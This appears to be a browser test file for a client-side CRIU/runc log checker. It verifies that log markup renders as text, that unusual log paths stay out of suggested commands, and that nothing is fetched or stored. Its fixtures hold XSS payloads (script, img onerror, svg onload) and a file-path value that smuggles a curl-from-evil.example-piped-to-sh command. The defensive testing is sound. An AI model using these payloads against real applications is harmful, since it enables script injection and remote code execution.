// The checker is private and safe by construction: log text is shown as text wherever it appears
// (log lines, the log view, captured values, the wrapper's log path, commands), and from the moment
// the page is ready nothing is fetched while a log is pasted, opened, checked, scrolled or shared.
import { describe, expect, it } from "vitest";
import { RESTORE_LOG, diagnosed, dropFile, openFile, paste, reportMissingChromium, rootCause, status, useChecker } from "./helpers/checker.ts";

reportMissingChromium();

const HOSTILE = [
  // Markup in a line a rule matches, after the match.
  `(00.021345)  16817: Error (criu/cr-restore.c:1539): Pid 17550 do not match expected 16817 <img src=x onerror="window.__pwned=1;alert(1)">`,
  // Markup in lines no article explains (shown in the list and the proposal link).
  `(00.021402) Error (criu/xss-probe.c:1): unexplained <script>window.__pwned=2;alert(2)</script> message`,
  `(00.021500) Error (criu/xss-probe.c:2): also <img src=x onerror=alert(3)><svg onload=alert(4)></svg> &amp; <b>bold</b>`,
  // Markup inside captured values: runc's log path (\S+, so no spaces) fills the wrapper box and commands.
  `ERRO[0000] criu failed: type NOTIFY errno 0`,
  `log file: /tmp/<img/src=x/onerror=window.__pwned=5;alert(5)>/<script>window.__pwned=6</script>.log`,
].join("\n");

describe.runIf(status === "run")("the checker is safe and private", () => {
  const checker = useChecker();

  it("shows markup from the log as text: in lines, captures, the log path and commands", async () => {
    const { page, requests } = await checker.open();
    await paste(page, HOSTILE);
    await diagnosed(page);
    await rootCause(page).locator("button.ck-show").click();
    await page.locator("#logview-scroller .ck-row--target:not(.ck-row--loading)").waitFor();

    const markup = "#results img, #results script, #results svg, #results b, #logview img, #logview script, #logview svg, #logview b";
    await expect(page.locator(markup).count()).resolves.toBe(0);
    const text = (await page.locator("#results").textContent()) ?? "";
    expect(text).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);
    expect(text).toContain("<script>window.__pwned=2;alert(2)</script>");
    expect(text).toContain("<svg onload=alert(4)></svg> &amp; <b>bold</b>");
    // The captured path is shown as text (what was detected, the share link's field), but it is not
    // one plain word, so it is kept out of the commands a reader would paste.
    const path = "/tmp/<img/src=x/onerror=window.__pwned=5;alert(5)>/<script>window.__pwned=6</script>.log";
    await expect(page.locator("#results .ck-detected").textContent()).resolves.toContain(path);
    const commands = await page.locator("#results pre.command").allTextContents();
    expect(commands.some((c) => c.includes("<script>"))).toBe(false);
    const runc = await page.locator('#results [data-finding="runc-criu-failed"] pre.command').allTextContents();
    expect(runc.some((c) => c.includes("{logPath}"))).toBe(true);
    expect(decodeURIComponent(await page.locator("#share-url").inputValue())).toContain(path);
    const logView = (await page.locator("#logview-scroller").textContent()) ?? "";
    expect(logView).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);

    await page.waitForTimeout(200);
    await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
    expect(requests).toEqual([]);
  });

  it("keeps a wrapper's log path that is not a plain word out of the command to read it", async () => {
    const { page } = await checker.open();
    const path = "/tmp/x;curl${IFS}evil.example|sh.log";
    await paste(page, `ERRO[0000] criu failed: type NOTIFY errno 0\nlog file: ${path}\n`);
    await diagnosed(page);
    await expect(page.locator("#results .ck-wrapper__path").textContent()).resolves.toBe(path);
    await expect(page.locator("#results .ck-wrapper pre.command").textContent()).resolves.toBe("sudo cat {logPath}");
  });

  it("makes no request while checking a pasted, dropped or opened log, nor while showing it", async () => {
    const { page, requests } = await checker.open();
    const big = `${Array.from({ length: 60_000 }, (_, i) => `(00.${String(i).padStart(6, "0")}) Collected 3 in 12 state`).join("\n")}\n${RESTORE_LOG}`;
    await paste(page, big); // larger than the textarea takes: held in memory, sent in pieces
    await diagnosed(page);
    await dropFile(page, "dropped.log", RESTORE_LOG);
    await page.waitForFunction(() => document.querySelector(".ck-stats")?.textContent?.startsWith("dropped.log"));
    await openFile(page, "opened.log", big);
    await page.waitForFunction(() => document.querySelector(".ck-stats")?.textContent?.startsWith("opened.log"));
    // The log view fetches its lines from the worker, not from the network.
    await page.locator("#logview-line").fill("30000");
    await page.locator("#logview-line").press("Enter");
    await page.locator('#logview-scroller .ck-row[data-line="30000"]:not(.ck-row--loading)').waitFor();
    await page.locator("#logview-scroller").press("End");
    await page.locator(`#logview-scroller .ck-row[data-line="60013"]:not(.ck-row--loading)`).waitFor();
    await page.locator("#share-url").waitFor();
    expect(requests).toEqual([]);
  });

  it("keeps the log out of the address bar and out of the page's storage", async () => {
    const { page } = await checker.open();
    await paste(page, RESTORE_LOG);
    await diagnosed(page);
    expect(page.url()).not.toContain("17550");
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie);
    expect(stored).not.toContain("Pid");
  });
});
